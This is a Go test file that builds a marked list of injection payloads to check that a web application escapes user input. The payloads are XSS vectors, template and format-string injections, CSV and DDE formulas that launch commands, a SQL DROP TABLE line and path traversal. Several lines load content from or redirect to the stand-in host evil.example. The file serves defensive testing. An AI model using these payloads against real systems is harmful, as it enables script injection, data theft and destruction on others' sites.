package web_test

import (
	"fmt"
	"strings"
)

// payloads are what somebody may write where text is taken: scripts, templates, formulas, and what upsets a reader.
// Each ends in a mark of its own, by which it is found on a page.
var payloads = func() (all []string) {
	for i, p := range strings.Split(strings.TrimSpace(payloadLines), "\n") {
		p = strings.NewReplacer(`\0`, "\x00", `\t`, "\t", `\a`, "\a", `\e`, "\x1b[31m", `\R`, "\u202e", `\Z`, "\u200b", `\L`, "\u2028", `\B`, "\ufeff", `\X`, strings.Repeat("x", 900)).Replace(p)
		all = append(all, p+mark(i))
	}
	return all
}()

func mark(i int) string { return fmt.Sprintf("zq%02d", i) }

const payloadLines = `
<script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</select></option><script>alert(1)</script>
</noscript><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
<!--><script>alert(1)</script>
<![CDATA[><script>alert(1)</script>]]>
<scr<script>ipt>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg/onload=alert(1)//
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<object data=data:text/html,<script>alert(1)</script>>
<embed src=javascript:alert(1)>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content=0;url=//evil.example/>
<style>@import'//evil.example/x.css';</style>
<form action=//evil.example/><button>Send
<input autofocus onfocus=alert(1)>
<a href=javascript:alert(1)>here</a>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<marquee onstart=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
" onfocus=alert(1) autofocus x="
' onfocus=alert(1) autofocus x='
x onmouseover=alert(1)
" style="background:url(//evil.example/)
javascript:alert(1)//
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<scr\0ipt>alert(1)</scr\0ipt>
\B<script>alert(1)</script>
{{.Seat}}{{printf "%s" .}}{{template "main" .}}
{{"{{"}}alert(1)}}${7*7}<%= 7*7 %>#{7*7}
%d %s %[1]q %!(EXTRA string=x)
=HYPERLINK("http://evil.example/","here")
=cmd|' /C calc'!A0
+1+1
-2+3
@SUM(1+1)
\RTXET esrever
\Zzero\Z width\L
\a\e\t
'; DROP TABLE upload; --
../../../etc/passwd
C:\Windows\System32\drivers\etc\hosts
\X
`
